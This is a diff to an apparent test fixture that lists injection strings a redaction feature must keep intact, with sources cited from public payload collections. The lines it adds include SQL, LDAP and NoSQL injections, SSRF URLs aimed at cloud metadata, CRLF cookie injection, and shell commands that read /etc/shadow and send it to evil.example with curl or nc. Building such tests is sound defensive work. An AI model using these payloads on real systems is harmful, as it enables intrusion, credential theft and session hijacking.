@@ -1,6 +1,7 @@
 /**
- * Attack strings that must survive redaction. SQL: SecLists, Fuzzing/SQLi/Generic-SQLi.txt (MIT). The
- * others: OWASP Web Security Testing Guide 4.2, and the public reports of the attacks they name.
+ * Attack strings that must survive redaction. Sources: SecLists, Fuzzing (Generic-SQLi.txt, NoSQL.txt,
+ * LDAP.Fuzzing.txt; MIT); PayloadsAllTheThings (SQL, NoSQL, LDAP and CRLF injection, SSRF, MSSQL; MIT);
+ * OWASP Web Security Testing Guide 4.2; and the public reports of the attacks they name.
  */
 export const INJECTIONS: readonly string[] = [
   // SQL
@@ -26,9 +27,37 @@ export const INJECTIONS: readonly string[] = [
   'password:*/=1--',
   "admin' or password like '%",
   "' OR password='x' OR ''='",
+  // a sensitive column without quotes around the value
+  '1 UNION SELECT * FROM users WHERE password=md5(1)--',
+  "x' or password=0x61646d696e--",
+  "1'%20or%20password=0x61646d696e--",
+  "1'+or+password=char(97)--",
+  "1'/**/or/**/password=0x61/**/--",
+  "1'\nor\npassword=0x61\n--",
+  "1'\nor -- a comment\npassword=0x61\n--",
+  "1'\nor # a comment\n/* another */\npassword=0x61\n--",
+  '1; update users set password=md5(1)',
+  '1; update users set a=1,\npassword=md5(1)',
+  '1; update users\nset\npassword=md5(1)',
+  '1; update users\nset password=md5(1)',
+  '1; insert into users u\nSET password=md5(1)',
+  "1';\nset password=password('x')--",
+  "x' or 1=1; password=md5(1)--",
+  "1;select * from OPENDATASOURCE('SQLOLEDB',\n'Data Source=evil;uid=sa;pwd=password').a.b.c",
+  "'; UPDATE users SET email='a@b.example', password=md5(1) WHERE id=1--",
+  "admin' and (password=md5(1))#",
+  '1 or api_key=users.api_key',
+  "1' AND token=(SELECT token FROM sessions LIMIT 1)--",
+  "x' or pin=1234 or ''='",
+  "1 UNION SELECT a FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;uid=sa;pwd=password','SELECT 1')",
   'and extractvalue(1, concat(0x0a,(select schema_name from information_schema.schemata))) -- -',
   '*(|(objectclass=*))',
   '%2A%28%7C%28mail%3D%2A%29%29',
+  'admin*)((|userPassword=*)',
+  '*)(uid=*))(|(password=a*',
+  'username[$ne]=toto&password[$ne]=toto',
+  'login[$regex]=a.*&pass%5B%24ne%5D=lol',
+  "' && this.password.match(/.*/)//+%00",
   // scripts
   '<script>alert(document.cookie)</script>',
   '"><img src=x onerror=alert(1)>',
@@ -42,8 +71,12 @@ export const INJECTIONS: readonly string[] = [
   'php://filter/convert.base64-encode/resource=config.php',
   'file:///proc/self/environ',
   'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+  'http://127.1.1.1:80\\@127.2.2.2:80/',
+  'http://shop.example:443@169.254.169.254/latest/meta-data/',
   'gopher://127.0.0.1:6379/_FLUSHALL',
   // commands, templates, other languages
+  '; token=$(cat /etc/shadow); curl evil.example/$token',
+  '; curl -d token=$(cat /etc/shadow) evil.example',
   '; cat /etc/passwd | nc evil.example 4444',
   '$(curl http://evil.example/a1b2c3d4e5f6.sh)',
   '`id`',
@@ -59,6 +92,9 @@ export const INJECTIONS: readonly string[] = [
   '__proto__[isAdmin]=true',
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
   '%0d%0aSet-Cookie:%20injected=1',
+  '%0d%0aSet-Cookie:%20session=evil;%20HttpOnly',
+  '\r\nSet-Cookie: sessionid=evil; Path=/',
+  '\r\nSet-Cookie: theme=evil; sessionid=evil',
   // serialised objects: Java, .NET, Python, PHP
   'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg',
   'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0',
